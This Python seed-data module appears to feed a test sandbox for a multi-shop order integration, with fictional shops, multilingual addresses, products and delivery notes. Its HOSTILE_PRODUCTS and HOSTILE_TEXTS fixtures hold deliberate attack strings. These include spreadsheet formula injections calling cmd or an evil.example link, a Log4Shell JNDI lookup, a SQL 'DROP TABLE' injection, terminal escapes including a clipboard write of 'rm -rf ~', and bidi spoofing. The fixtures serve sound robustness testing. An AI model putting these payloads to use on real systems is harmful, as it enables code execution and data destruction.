"""Seed data: shops, countries, products, texts. Data only."""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class SeedShop:
    """One integration of the account. `statuses`: code and message, from new to completed.

    `share`: its share of the orders. `number`: the format of its order numbers, with `{}` for the running number.
    """

    id: int
    name: str
    url: str
    type: str
    share: float
    number: str
    first: int
    statuses: tuple[tuple[str, str], ...]
    indicators: tuple[str, ...]
    language: str


_SHIPPED = (("unfulfilled", "Unfulfilled"), ("partial", "Partially fulfilled"), ("fulfilled", "Fulfilled"))

OWN_SHOP = 7
"""The integration that the sandbox's credentials belong to (Q7.3)."""
FAILING_SHOP = 688341
PRESTASHOP = 285519

SHOPS = (
    SeedShop(
        OWN_SHOP,
        "Wick & Wax",
        "https://wickandwax.example/",
        "api",
        0.24,
        "NL-{}",
        48213,
        (("unshipped", "To be shipped"), ("on_hold", "On hold"), ("fulfilled", "Order has been fulfilled")),
        ("PostNL thuisbezorging", "DHL home delivery", "Brievenbus", "Avondlevering"),
        "nl",
    ),
    SeedShop(
        739283,
        "Wick & Wax International",
        "https://wick-and-wax.myshopify.example/",
        "shopify",
        0.31,
        "#{}",
        4471,
        _SHIPPED,
        ("Standard shipping", "Express (1-2 days)", "Pick-up point", "Free shipping over €50"),
        "en",
    ),
    SeedShop(
        412088,
        "Werkstatt Lindgrün",
        "https://lindgruen.example/shop/",
        "woocommerce",
        0.17,
        "{}",
        20931,
        (("processing", "In Bearbeitung"), ("on-hold", "Wartend"), ("completed", "Abgeschlossen")),
        ("DHL Paket", "DHL Packstation", "Versand (klimaneutral)", "Hermes PaketShop"),
        "de",
    ),
    SeedShop(
        PRESTASHOP,
        "Bougies d'Armor",
        "https://bougies-armor.example/",
        "prestashop_v2",
        0.12,
        "{}",
        7_015_221,
        (
            ("2", "Paiement accepté"),
            ("3", "En cours de préparation"),
            ("4", "Expédié"),
        ),
        ("Colissimo domicile", "Mondial Relay", "Chronopost 13h", "Retrait en boutique"),
        "fr",
    ),
    SeedShop(
        561204,
        "Amazon EU",
        "https://sellercentral.example/wickandwax",
        "amazon",
        0.13,
        "{}",
        5_418_702,
        (("Unshipped", "Unshipped"), ("PartiallyShipped", "Partially shipped"), ("Shipped", "Shipped")),
        ("Std DE Dom_1", "Exp EU Intl", "SecondDay"),
        "en",
    ),
    SeedShop(
        FAILING_SHOP,
        "Magento B2B groothandel",
        "https://b2b.wickandwax.example/",
        "magento",
        0.03,
        "{:0>9}",
        4213,
        (("pending", "Pending"), ("processing", "Processing"), ("complete", "Complete")),
        ("Pallet", "DHL For You", ""),
        "nl",
    ),
    SeedShop(
        801177,
        "Pop-up Antwerpen",
        "https://popup.wickandwax.example/",
        "api",
        0.0,
        "POP-{}",
        1,
        (("unshipped", "To be shipped"), ("unshipped", "To be shipped"), ("fulfilled", "Fulfilled")),
        ("Afhalen",),
        "nl",
    ),
)


@dataclass(frozen=True, slots=True)
class SeedCountry:
    """`postal`: # is a digit, @ a letter. `cities`: name and ISO 3166-2 state, which is empty if usually omitted."""

    code: str
    in_eu: bool
    weight: float
    postal: str
    cities: tuple[tuple[str, str], ...]
    streets: tuple[str, ...]
    given: tuple[str, ...]
    family: tuple[str, ...]
    phone: str


def _cities(text: str) -> tuple[tuple[str, str], ...]:
    pairs = (part.partition("/") for part in text.split("|"))
    return tuple((city, state) for city, _, state in pairs)


def _country(
    code: str,
    in_eu: bool,
    weight: float,
    postal: str,
    cities: str,
    streets: str,
    given: str,
    family: str,
    phone: str,
) -> SeedCountry:
    street_names, first_names, last_names = (tuple(text.split("|")) for text in (streets, given, family))
    return SeedCountry(code, in_eu, weight, postal, _cities(cities), street_names, first_names, last_names, phone)


COUNTRIES = (
    _country(
        "NL",
        True,
        26,
        "####@@",
        "Oss|Breda|'s-Hertogenbosch|Utrecht|Den Haag|Leeuwarden|Eindhoven|Bergen op Zoom",
        "Stadhuisplein|Lansdown Glade|Vierlinghweg|Vioolstraat|Tuindersweg|1e Oosterparkstraat|Burgemeester van den Helmlaan|'t Veldje|Laan van Meerdervoort",
        "Jan|Fleur|Daan|Sanne|Ruud|Anouk|Bram|Noor",
        "de Vries|van den Berg|Jansen|Bakker|van 't Hof|IJsselstein|Visser|ter Braak",
        "+3161",
    ),
    _country(
        "BE",
        True,
        9,
        "####",
        "Antwerpen|Gent|Liège|Bruxelles|Sint-Niklaas|Louvain-la-Neuve",
        "Kerkstraat|Rue de la Loi|Grote Markt|Avenue Louise|Nieuwstraat|Chaussée de Charleroi",
        "Lotte|Wout|Amélie|Thibault|Els|François",
        "Peeters|Dubois|Maes|Lefèbvre|Vandenbroucke|D'Hondt",
        "+324",
    ),
    _country(
        "DE",
        True,
        19,
        "#####",
        "Berlin|München|Köln|Lübeck|Görlitz|Frankfurt am Main|Bad Königshofen im Grabfeld|Düsseldorf",
        "Hauptstraße|Am Bürgerpark|Karl-Marx-Allee|Schönhauser Allee|Straße des 17. Juni|Gartenweg|Große Elbstraße|Platz der Deutschen Einheit",
        "Jürgen|Annegret|Björn|Sabine|Käthe|Maximilian|Ayşe|Günther",
        "Müller|Weiß|Schröder|Großmann|von der Heydt|Özdemir|Krüger|Leutheusser-Schnarrenberger",
        "+49151",
    ),
    _country(
        "FR",
        True,
        11,
        "#####",
        "Paris|Saint-Brieuc|Lyon|L'Haÿ-les-Roses|Marseille|Saint-Rémy-en-Bouzemont-Saint-Genest-et-Isson",
        "rue de l'Église|avenue Général de Gaulle|boulevard Saint-Michel|impasse des Œillets|chemin du Moulin à Vent|place de la République",
        "Chloé|Étienne|Anaïs|Loïc|Maëlle|Jean-Baptiste",
        "Lefebvre|Garnier|Le Goff|N'Diaye|Château|Beauséjour",
        "+336",
    ),
    _country(
        "GB",
        False,
        7,
        "@@# #@@",
        "London|Leeds|Stoke-on-Trent|Edinburgh|Weston-super-Mare",
        "High Street|Church Lane|Station Road|The Old Rectory, Mill Lane|Queen's Crescent",
        "Oliver|Siân|Harriet|Mohammed|Niamh|George",
        "Smith|O'Connor|Patel|Featherstonehaugh|MacDonald|Okonkwo",
        "+447",
    ),
    _country(
        "US",
        False,
        5,
        "#####",
        "Dawnbrook/DE|New York/US-NY|Austin/TX|San José/CA|St. Louis/US-MO|Winston-Salem/NC",
        "Wilmington Drive|W 42nd St|Martin Luther King Jr. Blvd|County Road|N Main St|Peachtree Street NE",
        "Ashley|DeShawn|María|Tyler|Emily|Björk",
        "Johnson|García|Nguyễn|Williams|Kowalski|O'Neill",
        "+1888",
    ),
    _country(
        "ES",
        True,
        4,
        "#####",
        "Madrid|A Coruña|Sevilla|L'Hospitalet de Llobregat/ES-B",
        "Calle de Alcalá|Carrer de Còrsega|Avenida de la Constitución|Plaza España, esc. B",
        "Íñigo|Lucía|José María|Begoña|Núria",
        "García Núñez|Fernández|Ibáñez|Peña y Castro|Bofill",
        "+346",
    ),
    _country(
        "IT",
        True,
        4,
        "#####",
        "Roma/IT-RM|Milano/MI|Forlì/IT-FC|Bolzano - Bozen/BZ",
        "Via Roma|Corso Vittorio Emanuele II|Piazza dell'Unità d'Italia|Viale della Libertà",
        "Niccolò|Giulia|Andrea|Concetta|Pier Paolo",
        "Rossi|De Luca|D'Angelo|Esposito|Bianchi",
        "+393",
    ),
    _country(
        "AT",
        True,
        3,
        "####",
        "Wien|Graz|Sankt Pölten",
        "Mariahilfer Straße|Währinger Gürtel|Schloßallee",
        "Theresia|Lukas|Franz-Josef",
        "Gruber|Höllwarth|Edlinger",
        "+43664",
    ),
    _country(
        "PL",
        True,
        3,
        "##-###",
        "Łódź|Wrocław|Kraków|Świnoujście",
        "ul. Święty Marcin|ul. Piotrkowska|al. Jerozolimskie|os. Złotego Wieku",
        "Małgorzata|Łukasz|Zbigniew|Agnieszka",
        "Wójcik|Brzęczyszczykiewicz|Kowalska|Żak",
        "+4860",
    ),
    _country(
        "SE",
        True,
        2,
        "### ##",
        "Malmö|Örebro|Göteborg",
        "Storgatan|Ångströmsvägen|Sankt Eriksgatan",
        "Åsa|Björn|Linnéa",
        "Sjöström|Ek|Öhman",
        "+4670",
    ),
    _country(
        "DK",
        True,
        2,
        "####",
        "København Ø|Ærøskøbing|Aarhus C",
        "Nørrebrogade|Strøget|Åboulevarden",
        "Søren|Freja|Jørgen",
        "Østergaard|Nielsen|Kjær",
        "+4520",
    ),
    _country(
        "PT",
        True,
        1,
        "####-###",
        "Lisboa|Póvoa de Varzim|São João da Madeira",
        "Rua da Conceição|Avenida da Liberdade|Largo do Chão",
        "João|Inês|Conceição",
        "Gonçalves|Simões|Magalhães",
        "+3519",
    ),
    _country(
        "IE",
        True,
        1,
        "@## @#@#",
        "Dublin|Dún Laoghaire|Letterkenny",
        "O'Connell Street|Cois Farraige|Main Street",
        "Saoirse|Pádraig|Aoife",
        "Ó Súilleabháin|Murphy|Ní Bhriain",
        "+35385",
    ),
    _country(
        "CZ",
        True,
        1,
        "### ##",
        "Praha 1|Plzeň|Žďár nad Sázavou",
        "Náměstí Míru|Křižíkova|U Dvořiště",
        "Jiří|Žaneta|Řehoř",
        "Dvořák|Němcová|Šťastný",
        "+4206",
    ),
    _country(
        "GR",
        True,
        1,
        "### ##",
        "Αθήνα|Θεσσαλονίκη|Ηράκλειο",
        "Οδός Ερμού|Λεωφόρος Αλεξάνδρας|Πλατεία Συντάγματος",
        "Γεώργιος|Ελένη|Δημήτρης",
        "Παπαδόπουλος|Αντωνίου|Οικονόμου",
        "+3069",
    ),
    _country(
        "BG",
        True,
        1,
        "####",
        "София|Пловдив|Велико Търново",
        "бул. Витоша|ул. Шипка|пл. Народно събрание",
        "Георги|Мария|Йордан",
        "Иванов|Петрова|Щерев",
        "+35988",
    ),
    _country(
        "CH",
        False,
        3,
        "####",
        "Zürich|Genève|La Chaux-de-Fonds|Bellinzona",
        "Bahnhofstrasse|Rue du Rhône|Via Nassa|Langstrasse",
        "Urs|Beatriz|Reto",
        "Zürcher|Favre|Bernasconi",
        "+4179",
    ),
    _country(
        "NO",
        False,
        1,
        "####",
        "Tromsø|Ålesund|Bodø",
        "Karl Johans gate|Øvre Slottsgate|Kjøpmannsgata",
        "Øystein|Ingrid|Håkon",
        "Bjørnstad|Sæther|Aas",
        "+474",
    ),
    _country(
        "UA",
        False,
        1,
        "#####",
        "Київ|Львів|Івано-Франківськ",
        "вул. Хрещатик|просп. Свободи|вул. Лесі Українки",
        "Олександр|Ївга|Ганна",
        "Шевченко|Кличко|Ґудзь",
        "+38067",
    ),
    _country(
        "JP",
        False,
        1,
        "###-####",
        "東京都渋谷区|大阪市北区|札幌市中央区",
        "神宮前一丁目|梅田3丁目|大通西",
        "花子|健太|美咲",
        "山田|佐藤|渡邊",
        "+8190",
    ),
    _country(
        "CN",
        False,
        1,
        "######",
        "北京市|上海市浦东新区|廣州市",
        "建国门外大街|南京东路|中山路",
        "伟|秀英|小明",
        "王|李|歐陽",
        "+86138",
    ),
    _country(
        "KR",
        False,
        1,
        "#####",
        "서울특별시 강남구|부산광역시",
        "테헤란로|해운대해변로|세종대로",
        "민준|서연|지훈",
        "김|박|남궁",
        "+8210",
    ),
    _country(
        "IL",
        False,
        1,
        "#######",
        "תל אביב-יפו|ירושלים|חיפה",
        "רחוב דיזנגוף|שדרות רוטשילד|רחוב יפו",
        "משה|נועה|אברהם",
        "כהן|לוי|מזרחי",
        "+97250",
    ),
    _country(
        "AE",
        False,
        1,
        "#####",
        "دبي|أبوظبي|الشارقة",
        "شارع الشيخ زايد|شارع الوصل|شارع المطار",
        "محمد|فاطمة|خالد",
        "الهاشمي|آل مكتوم|المنصوري",
        "+97150",
    ),
    _country(
        "TH",
        False,
        0.5,
        "#####",
        "กรุงเทพมหานคร|เชียงใหม่",
        "ถนนสุขุมวิท|ถนนข้าวสาร|ซอยน้ำผึ้ง",
        "สมชาย|กัญญา|ณัฐ",
        "ศรีสุข|จันทร์เพ็ญ",
        "+668",
    ),
    _country(
        "IN",
        False,
        0.5,
        "######",
        "नई दिल्ली/IN-DL|मुंबई/MH|Bengaluru/KA",
        "महात्मा गांधी मार्ग|चाँदनी चौक|Brigade Road",
        "राहुल|श्रेया|Priya",
        "शर्मा|श्रीवास्तव|Krishnamurthy",
        "+9198",
    ),
    _country(
        "CA",
        False,
        1,
        "@#@ #@#",
        "Montréal/QC|Toronto/CA-ON|Saint-Louis-du-Ha! Ha!/QC",
        "rue Sainte-Catherine|Yonge Street|chemin du Lac",
        "Geneviève|Liam|Noémie",
        "Tremblay|Singh|Bélanger",
        "+1514",
    ),
)


@dataclass(frozen=True, slots=True)
class SeedProduct:
    """`grams` and `cents`: the weight and price of one piece."""

    name: str
    description: str
    cents: int
    grams: int
    hs_code: str
    origin: str
    material: str
    colours: tuple[str, ...]
    dangerous: bool = False


def _product(text: str, dangerous: bool = False) -> SeedProduct:
    name, description, cents, grams, code, origin, material, colours = text.split("|")
    return SeedProduct(
        name, description, int(cents), int(grams), code, origin, material, tuple(colours.split(",")), dangerous
    )


PRODUCTS = (
    _product("Cylinder candle|Pebble green - 12x8 cm|350|420|3406.00|NL|100% soy wax|pebble green,sand,night blue"),
    _product("Squared Candle|8x8x8 cm|200|380|340600|NL|Paraffin|white,terracotta"),
    _product("Scented Candle|Fig & cassis, 40 h|550|310|3406.00|FR|Soy wax, cotton wick|fig,cassis,vetiver"),
    _product("Orange card|Orange gift card with face|350|12|4909.00|NL|Paper|orange"),
    _product("Kandelaar messing|Geborsteld, 21 cm|2495|640|8306.29|IN|Brass|messing,zwart"),
    _product("Duftkerze »Lindenblüte«|Handgegossen, 180 g|1890|295|340600|DE|Rapswachs|natur,grün"),
    _product("Bougie « Fleur d'oranger »|Coulée à la main, 35 h|2250|330|3406.00|FR|Cire végétale|blanc,ivoire"),
    _product("Lucifers in glazen pot|120 stuks, groene kop|895|140|3605.00|SE|Wood|groen,roze", True),
    _product("Geurstokjes navulling|Vijgenblad, 200 ml|1650|260|3307.49|NL|Perfume oil|vijgenblad,ceder", True),
    _product("Aanstekervloeistof|133 ml|449|150|3606.10|US|Naphtha|standaard", True),
    _product("Linen tablecloth|Washed linen, 150 x 250 cm|8900|900|6302.53|LT|100% linen|flax,oatmeal,ink"),
    _product("T-shirt “Burn slow”|Organic cotton|2900|180|6109.10|PT|100% Cotton|S,M,L,XL"),
    _product("Wool blanket|Merino, 130 x 180 cm|12900|1250|6301.20|NZ|100% merino wool|grey,rust"),
    _product("Steingutvase „Halm“|Unikat, 28 cm|4450|1620|6912.00|DE|Stoneware|matt,glasiert"),
    _product("Mug with ear|Stoneware, 30 cl|1450|410|6912.00|PT|Stoneware|blue,milk"),
    _product("Beeswax block|Raw, 1 kg|1995|1000|1521.90|PL|Beeswax|yellow"),
    _product("Dochten katoen|Rol 100 m|1195|90|5908.00|NL|Cotton|3x14,3x16"),
    _product("Kaarsvet 25 kg|Zak, sojawas|9750|25000|1507.90|US|Soy wax|vlokken"),
    _product("Adventskranz|Ø 30 cm, mit vier Kerzen|3490|1800|0604.20|DE|Fir, wire|rot,weiß"),
    _product("Workshop gift voucher|For two, by e-mail|7500|5|4907.00|NL|Paper|digital"),
    _product("線香 (沈香)|京都、50本|1800|60|3307.41|JP|Wood powder|沈香,白檀"),
    _product("Gift wrap|Recycled, with ribbon|250|30|4811.90|NL|Paper|kraft,stars"),
    _product("Candle snuffer|Blackened steel|1350|120|8205.51|NL|Steel|black"),
    _product("Tea lights (50)|8 h, without cup|899|700|3406.00|PL|Stearin|white"),
)

HOSTILE_PRODUCTS = (
    _product("Mug [bold red]SALE[/] [@click=app.quit]click[/]|[/foo] [red]|1450|410|6912.00|CN|Stone[b]ware|[red]"),
    _product('=HYPERLINK("http://evil.example","Candle")|+31 6|990|300|3406.00|NL|@SUM(A1:A9)|-1+1'),
    _product(
        "Candle\u001b[31m red\u001b[0m\u001b]0;owned\u0007|line one\nline two\ttab|1290|300|3406.00|NL|\u009b5m|x"
    ),
    _product(
        "\u202eeldnac desrever\u202c candle\u200b\u200d|\u2066bidi\u2069 \ufeff|1190|300|3406.00|NL|wax\u00ad|\u200f"
    ),
)

HOSTILE_TEXTS = (
    "\u001b]52;c;cm0gLXJmIH4K\u0007copied",
    "\u001b[2J\u001b[H\u001b[?1049lgone",
    "\u009b31mC1\u009c \u0090q\u009c",
    "bell \u0007 back \u0008\u0008 vt \u000b ff \u000c del \u007f",
    "\u202egnitrom si siht\u202c \u2067abc\u2069 \u061c",
    "zero\u200bwidth\u200cjoin\u200d \ufeff\u2060",
    "line one\r\nline two\rline three\u2028four\u2029five\u0085six",
    "[red]markup[/red] [/foo] [@click=app.quit]x[/] [link=file:///etc/passwd]y[/link] \\[b]",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "${jndi:ldap://evil.example/a} '; DROP TABLE orders; --",
    "Z\u0351\u0343\u034a\u0361\u0322\u0332a\u0310\u0345\u0327l\u0308\u0323\u0330g\u030d\u0331o\u0334\u0489",
    "👩‍👩‍👧‍👦 family, 🏴󠁧󠁢󠁷󠁬󠁳󠁿 flag, e\u0301 combined, ﷽ wide",
    "x" * 600,
)

NOTES = {
    "nl": (
        "Graag bij de buren op nr. 14 afgeven als ik er niet ben.",
        "Bel even voor levering: 063 874 6473",
        "Het is een cadeau, geen factuur bijvoegen aub!",
        "Spoed! Vrijdag nodig.\nBvd, groet",
    ),
    "en": (
        "Please leave with the concierge.",
        "Call this number before delivery: 063 874 6473",
        "It's a gift 🎁 — no prices please",
        "Door code 4711#",
    ),
    "de": (
        "Bitte im Schuppen abstellen (Abstellerlaubnis erteilt).",
        "Klingel defekt, bitte anrufen.",
        "Könnten Sie es bis zum 24. schaffen? Vielen Dank für die Mühe!",
    ),
    "fr": (
        "Code portail : 47B12. Merci de ne pas plier !",
        "C'est pour offrir — un petit mot « Joyeux anniversaire » s'il vous plaît.",
        "Livrer au gardien, bâtiment C",
    ),
}

FOREIGN_NOTES = (
    "玄関前に置いてください。",
    "اتصل قبل التسليم من فضلك",
    "נא להשאיר ליד הדלת",
    "Позвоните, пожалуйста, за час",
    "请放在门卫处",
)

TAGS = (
    ("preorder",),
    ("fragile",),
    ("gift", "no-invoice"),
    ("fragile", "countryside warehouse"),
    ("vip",),
    ("october_campaign",),
    ("b2b", "NET30, 2%"),
    (),
)

CURRENCIES = ("CHF", "SEK", "PLN", "DKK", "NOK", "JPY", "CAD", "chf")
"""Currencies of real shops, although the document's enum has only EUR, GBP and USD (Q8.1)."""

SHIPPING_OPTIONS = (
    "postnl:standard",
    "postnl:standard/insured=3000",
    "postnl:mailbox",
    "dhl_de:paket",
    "dhl_parcel:for_you",
    "colissimo:home/signature",
    "mondial_relay:point_relais",
    "ups:express_saver",
    "sendcloud:letter",
)

STATUS_TEXTS = (
    ("2", ("Payment accepted", "Betaling aanvaard", "Zahlung eingegangen"), False),
    ("3", ("Processing in progress", "Wordt voorbereid", "In Bearbeitung"), False),
    ("4", ("Shipped", "Verzonden", "Versandt"), False),
    ("5", ("Delivered", "Afgeleverd", "Geliefert"), False),
    ("6", ("Cancelled", "Geannuleerd", "Storniert"), False),
    ("17-B", ("Awaiting bank wire", "Wacht op overschrijving", "Warten auf Überweisung"), True),
)
"""The Prestashop's order statuses: external id, text in English, Dutch and German, whether it was deleted."""
